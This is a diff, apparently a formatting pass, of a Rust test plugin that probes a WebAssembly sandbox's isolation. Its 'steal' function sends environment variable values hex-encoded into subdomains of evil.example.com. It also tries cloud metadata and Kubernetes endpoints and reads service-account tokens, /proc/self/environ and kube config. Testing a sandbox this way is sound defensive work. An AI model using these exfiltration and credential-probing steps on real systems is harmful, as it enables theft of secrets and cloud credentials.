@@ -1,4 +1,5 @@
-//! A sink for tests of the cage: it does what the message of each event tells it, and says on its stdout what came of it.
+//! A sink for tests of the cage: it does what the message of each event tells it, and says on its
+//! stdout what came of it.
 //!
 //! | message | what it does |
 //! |---|---|
@@ -47,8 +48,16 @@ impl Guest for Probe {
         Description {
             name: "probe".into(),
             version: env!("CARGO_PKG_VERSION").into(),
-            summary: format!("Does what messages tell it; saw {} variables", std::env::vars().count()),
-            env: vec![EnvVar { name: "PROBE_OPTIONAL".into(), help: "Nothing".into(), required: false, secret: true }],
+            summary: format!(
+                "Does what messages tell it; saw {} variables",
+                std::env::vars().count()
+            ),
+            env: vec![EnvVar {
+                name: "PROBE_OPTIONAL".into(),
+                help: "Nothing".into(),
+                required: false,
+                secret: true,
+            }],
             hosts: vec![],
             batch_events: 0,
             batch_bytes: 0,
@@ -68,13 +77,22 @@ impl Guest for Probe {
     fn save_events(_: Batch, events: Vec<Event>) -> Result<Vec<Failure>, Error> {
         let mut failures = Vec::new();
         for (index, event) in (0..).zip(&events) {
-            let (word, rest) = event.message.split_once(' ').unwrap_or((&event.message, ""));
+            let (word, rest) = event
+                .message
+                .split_once(' ')
+                .unwrap_or((&event.message, ""));
             match word {
                 "refuse" => return Err(Error::Refused("told so".into())),
                 "index" => failures.push(failure(u32::try_from(events.len()).unwrap_or(u32::MAX))),
                 "fail" => failures.push(failure(index)),
-                "excuse" => failures.push(Failure { reason: encodings(&std::env::var(rest).unwrap_or_default()).join(" "), ..failure(index) }),
-                "reason" => failures.push(Failure { reason: "x".repeat(number(rest) << 20), ..failure(index) }),
+                "excuse" => failures.push(Failure {
+                    reason: encodings(&std::env::var(rest).unwrap_or_default()).join(" "),
+                    ..failure(index)
+                }),
+                "reason" => failures.push(Failure {
+                    reason: "x".repeat(number(rest) << 20),
+                    ..failure(index)
+                }),
                 "failures" => failures.extend((0..number(rest)).map(|_| failure(index))),
                 "raw" => println!("raw {}", raw_event::get(index).map_or(0, |json| json.len())),
                 _ => act(word, rest),
@@ -90,21 +108,46 @@ impl Guest for Probe {
 }
 
 fn failure(index: u32) -> Failure {
-    Failure { index, retryable: false, after_ms: None, reason: "told so".into() }
+    Failure {
+        index,
+        retryable: false,
+        after_ms: None,
+        reason: "told so".into(),
+    }
 }
 
 fn act(word: &str, rest: &str) {
     match word {
-        "env" => println!("env {rest} {}", if std::env::var(rest).is_ok() { "seen" } else { "absent" }),
+        "env" => println!(
+            "env {rest} {}",
+            if std::env::var(rest).is_ok() {
+                "seen"
+            } else {
+                "absent"
+            }
+        ),
         "show" => println!("{rest} is {:?}", std::env::var(rest)),
-        "environment" => println!("environment {:?}", std::env::vars().map(|(name, _)| name).collect::<Vec<_>>()),
+        "environment" => println!(
+            "environment {:?}",
+            std::env::vars().map(|(name, _)| name).collect::<Vec<_>>()
+        ),
         "get" => println!("get {rest} {}", get(rest, None)),
         "header" => {
             let (name, url) = rest.split_once(' ').unwrap_or((rest, ""));
             println!("header {name} {}", get(url, Some(name)));
         }
-        "file" => println!("file {rest} {:?}", std::fs::read(rest).map(|bytes| bytes.len()).map_err(|why| why.kind())),
-        "connect" => println!("connect {rest} {:?}", std::net::TcpStream::connect(rest).map(drop).map_err(|why| why.kind())),
+        "file" => println!(
+            "file {rest} {:?}",
+            std::fs::read(rest)
+                .map(|bytes| bytes.len())
+                .map_err(|why| why.kind())
+        ),
+        "connect" => println!(
+            "connect {rest} {:?}",
+            std::net::TcpStream::connect(rest)
+                .map(drop)
+                .map_err(|why| why.kind())
+        ),
         "trap" => std::process::abort(),
         "loop" => loop {
             std::hint::black_box(());
@@ -135,17 +178,45 @@ fn number(text: &str) -> usize {
 /// Words that send more than a request without anything.
 fn send(word: &str, rest: &str) {
     let (first, others) = rest.split_once(' ').unwrap_or((rest, ""));
-    let plain = |url: &str| http::Request { method: "POST".into(), url: url.into(), headers: vec![], body: vec![], timeout_ms: None };
+    let plain = |url: &str| http::Request {
+        method: "POST".into(),
+        url: url.into(),
+        headers: vec![],
+        body: vec![],
+        timeout_ms: None,
+    };
     match word {
         "headers" => {
             let (bytes, url) = others.split_once(' ').unwrap_or((others, ""));
-            let headers = (0..number(first)).map(|n| (format!("x-{n}"), vec![b'v'; number(bytes)])).collect();
-            println!("headers {first} {bytes} {}", outcome(http::send(&http::Request { headers, ..plain(url) })));
+            let headers = (0..number(first))
+                .map(|n| (format!("x-{n}"), vec![b'v'; number(bytes)]))
+                .collect();
+            println!(
+                "headers {first} {bytes} {}",
+                outcome(http::send(&http::Request {
+                    headers,
+                    ..plain(url)
+                }))
+            );
         }
-        "post" => println!("post {first} {}", outcome(http::send(&http::Request { body: vec![b'b'; number(first) << 20], ..plain(others) }))),
+        "post" => println!(
+            "post {first} {}",
+            outcome(http::send(&http::Request {
+                body: vec![b'b'; number(first) << 20],
+                ..plain(others)
+            }))
+        ),
         "all" => {
-            let answers = http::send_all(&(0..number(first)).map(|_| plain(others)).collect::<Vec<_>>());
-            let bytes: usize = answers.iter().flatten().map(|response| response.body.len()).sum();
+            let answers = http::send_all(
+                &(0..number(first))
+                    .map(|_| plain(others))
+                    .collect::<Vec<_>>(),
+            );
+            let bytes: usize = answers
+                .iter()
+                .flatten()
+                .map(|response| response.body.len())
+                .sum();
             let last = answers.into_iter().last().map_or_else(String::new, outcome);
             println!("all {first} bytes {bytes} the last {last}");
         }
@@ -156,7 +227,13 @@ fn send(word: &str, rest: &str) {
 fn outcome(answer: Result<http::Response, http::Error>) -> String {
     match answer {
         Ok(response) => {
-            format!("status {} bytes {} truncated {} headers {}", response.status, response.body.len(), response.truncated, response.headers.len())
+            format!(
+                "status {} bytes {} truncated {} headers {}",
+                response.status,
+                response.body.len(),
+                response.truncated,
+                response.headers.len()
+            )
         }
         Err(error) => format!("{error:?}"),
     }
@@ -174,22 +251,48 @@ fn steal() {
         println!("stolen {name}={value}");
         reveal(&name);
         let host: String = value.bytes().map(|b| format!("{b:02x}")).collect();
-        println!("sent {}", get(&format!("https://{host}.evil.example.com/"), None));
+        println!(
+            "sent {}",
+            get(&format!("https://{host}.evil.example.com/"), None)
+        );
     }
-    for host in ["169.254.169.254", "kubernetes.default.svc", "10.0.0.1:443", "localhost:6443", "metadata.google.internal", "[fd00:ec2::254]"] {
+    for host in [
+        "169.254.169.254",
+        "kubernetes.default.svc",
+        "10.0.0.1:443",
+        "localhost:6443",
+        "metadata.google.internal",
+        "[fd00:ec2::254]",
+    ] {
         for scheme in ["http", "https"] {
-            println!("tried {scheme}://{host} {}", get(&format!("{scheme}://{host}/"), None));
+            println!(
+                "tried {scheme}://{host} {}",
+                get(&format!("{scheme}://{host}/"), None)
+            );
         }
     }
-    for path in ["/var/run/secrets/kubernetes.io/serviceaccount/token", "/proc/self/environ", "/home/nonroot/.kube/config"] {
-        println!("tried {path} {:?}", std::fs::read(path).map(|bytes| bytes.len()));
+    for path in [
+        "/var/run/secrets/kubernetes.io/serviceaccount/token",
+        "/proc/self/environ",
+        "/home/nonroot/.kube/config",
+    ] {
+        println!(
+            "tried {path} {:?}",
+            std::fs::read(path).map(|bytes| bytes.len())
+        );
     }
 }
 
-/// As it is, base64 at three alignments and in two alphabets, hex in both cases, percent-encoded, as JSON.
+/// As it is, base64 at three alignments and in two alphabets, hex in both cases, percent-encoded,
+/// as JSON.
 fn encodings(text: &str) -> Vec<String> {
     let hex: String = text.bytes().map(|b| format!("{b:02x}")).collect();
-    let mut all = vec![text.to_owned(), hex.to_uppercase(), text.bytes().map(|b| format!("%{b:02X}")).collect(), format!("{text:?}")];
+    let mut all = vec![
+        text.to_owned(),
+        hex.to_uppercase(),
+        text.bytes().map(|b| format!("%{b:02X}")).collect(),
+        format!("{text:?}"),
+    ];
     all.push(text.bytes().map(|b| format!("\\u{b:04x}")).collect());
     all.push(hex);
     for before in ["", "a", "ab"] {
@@ -201,17 +304,28 @@ fn encodings(text: &str) -> Vec<String> {
 }
 
 fn base64(bytes: &[u8], last: [u8; 2]) -> String {
-    let alphabet: Vec<u8> = (b'A'..=b'Z').chain(b'a'..=b'z').chain(b'0'..=b'9').chain(last).collect();
+    let alphabet: Vec<u8> = (b'A'..=b'Z')
+        .chain(b'a'..=b'z')
+        .chain(b'0'..=b'9')
+        .chain(last)
+        .collect();
     let group = |group: &[u8]| {
-        let bits = group.iter().chain([0, 0].iter()).take(3).fold(0, |bits, byte| bits << 8 | usize::from(*byte));
-        (0..=group.len()).map(|place| char::from(alphabet[bits >> (18 - 6 * place) & 63])).collect::<String>()
+        let bits = group
+            .iter()
+            .chain([0, 0].iter())
+            .take(3)
+            .fold(0, |bits, byte| bits << 8 | usize::from(*byte));
+        (0..=group.len())
+            .map(|place| char::from(alphabet[bits >> (18 - 6 * place) & 63]))
+            .collect::<String>()
     };
     bytes.chunks(3).map(group).collect()
 }
 
 /// What no safe code says: calls of the host with made-up layouts.
 mod hostile {
-    /// A list's element: a request as the canonical ABI lays it out, all texts as pointer and length.
+    /// A list's element: a request as the canonical ABI lays it out, all texts as pointer and
+    /// length.
     #[repr(C)]
     #[derive(Clone, Copy)]
     struct Request {
@@ -244,9 +358,19 @@ mod hostile {
     const LONG: u64 = 3_600_000_000_000;
 
     pub fn alias(count: usize, bytes: usize) -> usize {
-        let (method, url, body) = ("POST", "https://not.granted.example.com/", vec![0_u8; bytes]);
+        let (method, url, body) = (
+            "POST",
+            "https://not.granted.example.com/",
+            vec![0_u8; bytes],
+        );
         let text = |text: &str| (text.as_ptr() as usize, text.len());
-        let one = Request { method: text(method), url: text(url), headers: (4, 0), body: (body.as_ptr() as usize, body.len()), timeout: (0, 0) };
+        let one = Request {
+            method: text(method),
+            url: text(url),
+            headers: (4, 0),
+            body: (body.as_ptr() as usize, body.len()),
+            timeout: (0, 0),
+        };
         let (requests, mut answers) = (vec![one; count], [0; 2]);
         // SAFETY: the layout is the canonical ABI's, and all that it points to lives until the end.
         unsafe { send_all(requests.as_ptr(), count, &mut answers) };
@@ -255,7 +379,10 @@ mod hostile {
 
     pub fn timers(count: usize) -> usize {
         // SAFETY: takes a number, gives a handle.
-        (0..count).map(|_| unsafe { subscribe_duration(LONG) }).filter(|handle| *handle != 0).count()
+        (0..count)
+            .map(|_| unsafe { subscribe_duration(LONG) })
+            .filter(|handle| *handle != 0)
+            .count()
     }
 
     pub fn wait() {
@@ -268,8 +395,17 @@ mod hostile {
 }
 
 fn get(url: &str, header: Option<&str>) -> String {
-    let headers = header.map(|name| (name.to_owned(), b"x".to_vec())).into_iter().collect();
-    let request = http::Request { method: "GET".into(), url: url.into(), headers, body: vec![], timeout_ms: None };
+    let headers = header
+        .map(|name| (name.to_owned(), b"x".to_vec()))
+        .into_iter()
+        .collect();
+    let request = http::Request {
+        method: "GET".into(),
+        url: url.into(),
+        headers,
+        body: vec![],
+        timeout_ms: None,
+    };
     outcome(http::send(&request))
 }
 
